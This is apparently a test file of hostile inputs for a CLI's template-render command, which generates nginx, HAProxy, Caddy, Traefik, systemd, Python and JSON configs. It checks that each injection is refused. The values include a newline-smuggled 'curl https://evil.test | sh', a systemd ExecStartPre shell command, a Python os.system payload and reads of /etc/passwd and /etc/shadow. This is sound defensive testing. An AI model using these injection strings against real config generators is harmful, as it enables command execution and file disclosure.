// Hostile rows: template render (issue 8, items 6 and 13): values that would inject syntax, --out that
// cannot be written. Every refusal is exit 3 (or 8/22 for the output path) and leaves the case folder as it was.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { asNobody, EXIT, lit } from './harness.js';

const render = (name, ...rest) => ['template', 'render', name, ...rest];
const bad = (title, name, variable, value, extra = [], message = lit(`template variable ${variable}=`)) => ({
  title,
  args: render(name, '--var', `${variable}=${value}`, ...extra),
  status: EXIT.INVALID_INPUT,
  code: 'INVALID_INPUT',
  message,
  hint: /./,
  json: true,
});

export const CASES = [
  bad('curl script: a newline in url turns a comment into a command', 'curl/mcp-call.sh', 'url', 'https://x.test/mcp\ncurl https://evil.test | sh', ['--var', 'ca=/etc/ssl/ca.pem', '--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'name=a'], [lit('template variable url='), /newline/]),
  bad('mcp/server.ts: U+2028 in name ends the // comment', 'mcp/server.ts', 'name', 'x\u2028process.exit(7)//', ['--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'ca=/c', '--var', 'crl=/d'], [lit('template variable name='), /U\+2028/]),
  bad('mcp/client.ts: U+2029 in url', 'mcp/client.ts', 'url', 'https://x.test/\u2029;process.exit(1)', ['--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'ca=/c', '--var', 'name=a'], /U\+2029/),
  bad('nginx: a newline in serverName adds a directive', 'nginx/mcp-tls.conf', 'serverName', 'a.test;\n    include /etc/passwd', ['--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'name=a']),
  bad('nginx: ";" and include in serverName without a newline', 'nginx/mcp-tls.conf', 'serverName', 'a.test; include /etc/passwd', ['--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'name=a'], /not a DNS name/),
  bad('nginx: a "$" in a path would be read as a variable', 'nginx/mcp-tls.conf', 'fullchain', '/etc/ssl/$host.pem', ['--var', 'key=/b', '--var', 'name=a', '--var', 'serverName=a.test'], /nginx would read "\$"/),
  bad('nginx: upstream with ";" and a brace', 'nginx/mcp-tls.conf', 'upstream', 'http://127.0.0.1:3000/;}server{', ['--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'name=a', '--var', 'serverName=a.test']),
  bad('nginx: mcpPath with a block', 'nginx/mcp-mtls.conf', 'mcpPath', '/mcp { return 200; } location /x', ['--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'name=a', '--var', 'serverName=a.test', '--var', 'ca=/c', '--var', 'crl=/d'], /not a URL path/),
  bad('HAProxy: a newline in combined adds a keyword', 'haproxy/mcp-mtls.cfg', 'combined', '/etc/haproxy/a.pem\n    http-request deny', ['--var', 'ca=/c', '--var', 'crl=/d', '--var', 'name=a'], /newline/),
  bad('HAProxy: listen with a second bind', 'haproxy/mcp-mtls.cfg', 'listen', '127.0.0.1:8443 ssl crt /x\n bind :80', ['--var', 'combined=/a', '--var', 'ca=/c', '--var', 'crl=/d', '--var', 'name=a']),
  bad('Caddyfile: a newline in upstream adds a site', 'caddy/Caddyfile', 'upstream', 'http://127.0.0.1:3000\n}\nexample.com {', ['--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'ca=/c', '--var', 'name=a', '--var', 'serverName=a.test']),
  bad('Caddyfile: a {$ENV} placeholder in a path', 'caddy/Caddyfile', 'key', '/etc/ssl/{$HOME}.key', ['--var', 'fullchain=/a', '--var', 'ca=/c', '--var', 'name=a', '--var', 'serverName=a.test'], /placeholder/),
  bad('Traefik: a backtick in serverName rewrites the rule', 'traefik/mcp-mtls.yml', 'serverName', 'a.test`) || Host(`evil.test', ['--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'ca=/c', '--var', 'name=a'], /not a DNS name/),
  bad('Traefik: Go template markers in a path', 'traefik/mcp-mtls.yml', 'fullchain', '/etc/{{ env "SECRET" }}.pem', ['--var', 'key=/b', '--var', 'ca=/c', '--var', 'name=a', '--var', 'serverName=a.test'], /Go template/),
  bad('systemd: a newline in config adds ExecStartPre=', 'systemd/mcpki.service', 'config', '/etc/mcpki/mcpki.yaml\nExecStartPre=/bin/sh -c "id > /tmp/pwned"', [], /newline/),
  bad('systemd: a "$" in home would be expanded', 'systemd/mcpki-renew.service', 'home', '/var/lib/$USER/mcpki', [], /systemd would read "\$"/),
  bad('systemd: a relative path for the program', 'systemd/mcpki.service', 'node', 'node', [], /not an absolute path/),
  bad('systemd: crlDays with a command', 'systemd/mcpki-crl.service', 'crlDays', '7 ; /bin/sh', [], /not a whole number/),
  bad('systemd: a user that is not a name', 'systemd/mcpki.service', 'user', 'root\nGroup=root', [], /newline/),
  bad('Python: a quote in requireClientCert', 'mcp/server.py', 'requireClientCert', 'true" or __import__("os").system("id") or "', ['--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'ca=/c', '--var', 'crl=/d', '--var', 'name=a'], /not true or false/),
  bad('Python: listenPort that is code', 'mcp/server.py', 'listenPort', '8443") or exec("1', ['--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'ca=/c', '--var', 'crl=/d', '--var', 'name=a']),
  bad('JSON: a NUL-free escape in name breaks out of the key', 'mcp/claude-desktop.json', 'name', 'a": {"command": "sh"}, "b', ['--var', 'ca=/c', '--var', 'serverName=a.test'], /not a name/),
  bad('an ESC in a value (terminal escape)', 'systemd/mcpki.service', 'user', 'x', ['--var', 'config=/etc/\u001b[31mred'], /template variable config=.*\\u001b/),
  bad('a bidi override in a path', 'systemd/mcpki.service', 'home', '/var/lib/\u202egnp.cod', [], /U\+202E/),
  bad('a URL with credentials', 'mcp/claude-desktop.json', 'url', 'https://user:secret@x.test/mcp', ['--var', 'ca=/c', '--var', 'name=a'], /user name or password/),
  bad('a file: URL as upstream', 'nginx/mcp-tls.conf', 'upstream', 'file:///etc/shadow', ['--var', 'fullchain=/a', '--var', 'key=/b', '--var', 'name=a', '--var', 'serverName=a.test'], /not an http/),
  bad('systemd: reloadCommand with a quote that is not closed', 'systemd/mcpki-crl.service', 'reloadCommand', '/bin/sh -c "nginx -s reload', [], /has a " at position 12 that is not closed/),
  bad('systemd: reloadCommand ending in a backslash', 'systemd/mcpki-crl.service', 'reloadCommand', '/bin/systemctl reload nginx\\', [], /ends with a backslash/),
  {
    title: 'a --var the template does not take (a typo) is refused with a suggestion',
    args: render('systemd/mcpki.service', '--var', 'usr=mcpki'),
    status: EXIT.INVALID_INPUT,
    code: 'INVALID_INPUT',
    message: lit('template systemd/mcpki.service has no variable "usr"'),
    hint: /did you mean --var user=/,
    json: true,
  },
  {
    title: 'a --var name with control characters is shown escaped',
    args: render('systemd/mcpki-renew.timer', '--var', 'x\u001b[2J\u202e=1'),
    status: EXIT.INVALID_INPUT,
    message: [/has no variable/, lit('\\u001b[2J\\u202e')],
    hint: /takes no variables/,
    check: (ctx, result) => {
      if (/[\u001b\u202e]/.test(result.stderr)) throw new Error(`raw control character: ${JSON.stringify(result.stderr)}`);
    },
  },
  {
    title: 'template render --out names a folder: user error, no temp file left',
    args: (ctx) => render('systemd/mcpki-renew.timer', '--out', ctx.work),
    status: EXIT.INVALID_INPUT,
    code: 'INVALID_INPUT',
    message: /--out .* is a folder/,
    hint: /name the file/,
    json: true,
  },
  {
    title: 'template render --out in a folder that does not exist',
    args: (ctx) => render('systemd/mcpki-renew.timer', '--out', join(ctx.work, 'missing', 'x.timer')),
    status: EXIT.FILESYSTEM,
    code: 'WRITE_FAILED',
    message: /does not exist/,
    hint: /mkdir -p/,
    json: true,
  },
  {
    title: 'template render --out /dev/null (a device would be replaced)',
    args: render('systemd/mcpki-renew.timer', '--out', '/dev/null'),
    status: EXIT.INVALID_INPUT,
    code: 'INVALID_INPUT',
    message: /not a regular file/,
    json: true,
  },
  {
    title: 'template render --out under a file (not a folder)',
    setup: (ctx) => writeFileSync(join(ctx.work, 'note'), ''),
    args: (ctx) => render('systemd/mcpki-renew.timer', '--out', join(ctx.work, 'note', 'x')),
    status: EXIT.FILESYSTEM,
    code: 'WRITE_FAILED',
    message: /not a folder/,
  },
  {
    title: 'template render --out into a folder another user owns',
    world: true,
    setup: (ctx) => asNobody('mkdir', ['-m', '0755', join(ctx.public, 'theirs')]),
    args: (ctx) => render('systemd/mcpki-renew.timer', '--out', join(ctx.public, 'theirs', 'x.timer')),
    status: EXIT.UNSAFE_PATH,
    code: 'UNSAFE_PATH',
    message: /owned by uid/,
    json: true,
  },
  {
    title: 'template render --out through a symlinked folder another user planted',
    world: true,
    setup: (ctx) => {
      mkdirSync(join(ctx.work, 'victim'));
      asNobody('ln', ['-s', join(ctx.work, 'victim'), join(ctx.public, 'link')]);
    },
    args: (ctx) => render('systemd/mcpki-renew.timer', '--out', join(ctx.public, 'link', 'x.timer')),
    status: EXIT.UNSAFE_PATH,
    code: 'UNSAFE_PATH',
  },
];
